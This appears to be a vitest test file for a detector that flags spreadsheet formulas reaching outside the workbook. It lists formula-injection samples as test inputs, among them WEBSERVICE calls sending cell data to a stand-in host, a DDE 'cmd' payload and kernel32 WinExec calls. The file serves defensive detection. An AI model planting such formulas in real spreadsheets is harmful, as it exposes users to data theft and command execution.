import { expect, test } from 'vitest'
import { reachOf } from './reach-outside.ts'

test.each([
  ['_xlfn.WEBSERVICE("http://a.example/?"&amp;A1)', 'WEBSERVICE'],
  ['IFERROR(_xlfn.FILTERXML(_xlfn.webservice (A1),"//a"),"")', 'WEBSERVICE'],
  ['WEBSERVICE&#13;("http://a.example")', 'WEBSERVICE'],
  ['\'"\'!A1&amp;WEBSERVICE("http://a.example")', 'WEBSERVICE'],
  ['Table1[\'#]&amp;WEBSERVICE("http://a.example")&amp;Table1[\'#]', 'WEBSERVICE'],
  ['Table1["]&amp;WEBSERVICE("http://a.example")&amp;Table1["]', 'WEBSERVICE'],
  ['_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)', 'WEBSERVICE'],
  ['_xlfn.IMAGE(A1)', 'IMAGE'],
  ['RTD("prog.id",,"topic")', 'RTD'],
  ['_xlfn.STOCKHISTORY("MSFT",A1)', 'STOCKHISTORY'],
  ['_xlfn.TRANSLATE(A2,"en","tl")', 'TRANSLATE'],
  ['_xlfn._xlws.PY(0,1,A1)', 'PY'],
  ['CUBEVALUE("model",A1)', 'CUBEVALUE'],
  ['REGISTER.ID("kernel32","WinExec")', 'REGISTER.ID'],
  ['CALL("kernel32","WinExec","JCJ","calc",0)', 'CALL'],
  ['EXEC("calc")', 'EXEC'],
  ['SQL.REQUEST("dsn=a")', 'SQL.REQUEST'],
  ['IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""a"",""b"")"),"x")', 'IMPORTRANGE'],
  ['_xll.BDP(A1,"PX_LAST")', 'an add-in'],
  ['_xldudf_CONTOSO_FIND(A1)', 'an add-in'],
  ["cmd|'/c calc'!A0", 'DDE'],
  ["'Excel'|'C:\\a.xlsx'!R1C1", 'DDE'],
  ['DDE("soffice","a.ods","A1")', 'DDE'],
  ['[1]Sheet1!A1+1', 'another file'],
  ["'[1]Sheet 1'!A1", 'another file'],
  ['[1]!Rate', 'another file'],
  ['[1]Sheet1:Sheet3!A1', 'another file'],
  ['[Book2.xlsx]Sheet1!A1', 'another file'],
  ["'\\\\server\\share\\[Book2.xlsx]Sheet1'!A1", 'another file'],
  ["'https://a.example/Book2.xlsx'!Rate", 'another file'],
])('%s asks %s', (formula, asked) => {
  expect(reachOf(formula)).toBe(asked)
})

test.each([
  'SUM(A1:A9)/COUNTIF(B:B,"&lt;"&amp;C1)',
  'SUM(Codes[2025])',
  "Table1[[#This Row],[Student '#]]+Table1[Student '#]",
  '[0]!Sections',
  "'Sheet 1:Sheet 3'!A1",
  "'Nstp graduates'!F5",
  '"Call (045) 961-0000 | or WEBSERVICE(1)"',
  'HYPERLINK("https://ched.gov.ph","CHED")',
  '_xlfn.ENCODEURL(A1)',
  'PY1+RTD2+SUM(PY:PY)+Call',
  'CALLS(1)+MYIMAGE(1)+_xlfn.LET(_xlpm.image,1,_xlpm.image)',
  '_xlfn.XLOOKUP(A1,B:B,C:C)',
  'INDIRECT("Codes!A"&amp;B1)',
  'EUROCONVERT(1,"DEM","EUR")',
])('%s asks nothing beyond the workbook', (formula) => {
  expect(reachOf(formula)).toBeUndefined()
})

test('long formulas take no long time', () => {
  const begun = performance.now()
  for (const text of ['"', "'", '[', "['", ']a', 'A ', 'A.', '"\'']) reachOf(text.repeat(500_000))
  expect(performance.now() - begun).toBeLessThan(2_000)
})
